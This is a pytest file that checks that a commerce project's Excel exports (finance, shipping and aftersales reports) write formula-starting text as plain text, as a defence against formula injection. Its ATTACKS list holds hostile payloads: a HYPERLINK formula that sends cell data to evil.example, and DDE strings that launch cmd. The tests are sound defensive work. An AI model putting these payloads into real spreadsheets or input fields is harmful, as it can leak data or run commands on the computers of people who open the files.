"""Exports write text that would start a formula as text (CSV/Excel formula injection)."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from config.spreadsheets import cell_value, row_values
from finance.services.exports import write_workbook
from fulfilment.reports import shipping_health_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert cell_value(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "13812345678", "a=b", "", None, 3, Decimal("-12.50"), dt.date(2026, 11, 11)])
def test_other_values_keep_their_type_and_text(value):
    assert cell_value(value) == value


def test_a_lazy_translation_becomes_plain_text():
    with translation.override("en"):
        assert row_values([gettext_lazy("Shipped")]) == ["Shipped"]


def test_the_finance_workbook_holds_no_formula_from_a_cell_value(tmp_path):
    path = tmp_path / "report.xlsx"
    write_workbook(
        str(path),
        title="Report",
        columns=["Shop", "Amount"],
        rows=[[ATTACKS[0], Decimal("-5.00")], ["=1+1", Decimal("7.00")]],
        totals={1},
    )
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.value for c in cells] == ["'" + ATTACKS[0], Decimal("-5.00"), "'=1+1", Decimal("7.00"), "合计 Total", 2]
    assert all(c.data_type != "f" for c in cells)


def test_the_shipping_report_holds_no_formula_from_a_channel_name():
    report = {
        "day": dt.date(2026, 11, 11),
        "channels": [
            {
                "channel": "=cmd|' /C calc'!A0",
                "shipped": 1,
                "on_time": 1,
                "late": 0,
                "on_time_rate": 100,
                "overdue_unshipped": 0,
            },
        ],
        "label": {"attempts": 0, "failed": 0, "error_rate": None, "reasons": [{"block_reason": "@evil", "n": 1}]},
        "exceptions": [],
        "interventions": {},
    }

    workbook = load_workbook(io.BytesIO(shipping_health_xlsx(report)))

    assert workbook["Channels"]["A3"].value == "'=cmd|' /C calc'!A0"
    assert workbook["Labels"]["A5"].value == "'@evil"
    formulas = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_the_aftersales_workbook_holds_no_formula_from_a_shop_or_sku_name():
    from types import SimpleNamespace

    from aftersales.reports.excel import report_workbook

    rates = {
        "orders": 1,
        "paid_amount": Decimal("9.00"),
        "cases": 1,
        "refunded_cases": 0,
        "refunded_amount": Decimal("0.00"),
        "case_rate": 100,
        "amount_rate": 0,
    }
    report = {
        "filter": SimpleNamespace(date_from=dt.date(2026, 11, 10), date_to=dt.date(2026, 11, 11), currency="CNY"),
        "trend": [],
        "shops": [{"shop": ATTACKS[0], "code": "shop-a", **rates}],
        "skus": [{"sku": "SKU-1", "name": ATTACKS[1], "units": 1, **rates}],
        "reasons": {"reasons": [{"label": ATTACKS[3], "reason_code": "", "cases": 1, "amount": 1, "share": 100}]},
        "close": {"closed": 0, "p50_h": None, "p90_h": None, "kinds": []},
        "auto": {"approved": 0, "automatic": 0, "share": None},
    }

    workbook = load_workbook(io.BytesIO(report_workbook(report)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells}
    assert {"'" + ATTACKS[0], "'" + ATTACKS[1], "'" + ATTACKS[3]} <= texts
    assert all(cell.data_type != "f" for cell in cells)
